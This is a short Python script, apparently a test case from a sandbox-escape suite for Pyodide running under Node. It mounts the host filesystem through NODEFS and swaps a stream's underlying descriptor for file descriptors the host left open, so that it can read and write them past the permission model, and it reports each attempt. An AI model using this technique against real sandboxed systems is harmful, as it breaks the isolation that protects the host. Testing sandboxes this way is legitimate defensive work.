# Uses file descriptors the host process had open without close-on-exec: Node's fd-based calls
# are not covered by the permission model. The fds are reached through a NODEFS stream whose
# Node fd is swapped for theirs.
exec(open("/sandbox/_attack.py").read())
import os

import js
import pyodide_js
from pyodide.ffi import jsnull, to_js

FS = pyodide_js.FS
NODEFS = FS.filesystems.NODEFS
FS.mkdirTree("/h")
FS.mount(NODEFS, js.Object.fromEntries([["root", pyodide_js._api.config.indexURL.rstrip("/")]]), "/h")


def through(fd):
    stream = FS.getStream(os.open("/h/package.json", os.O_RDONLY))
    stream.nfd = fd
    return stream


def read_fd(fd):
    buffer = js.Uint8Array.new(4096)
    count = NODEFS.stream_ops.read(through(fd), buffer, 0, 4096, 0)
    return buffer.subarray(0, count).to_bytes()


def write_fd(fd):
    data = to_js(b"written by the guest\n")
    return NODEFS.stream_ops.write(through(fd), data, 0, data.length, jsnull)


for fd in params["inheritedFds"]:
    attempt(f"read fd {fd}", lambda fd=fd: read_fd(fd))
    attempt(f"write fd {fd}", lambda fd=fd: write_fd(fd))
report()
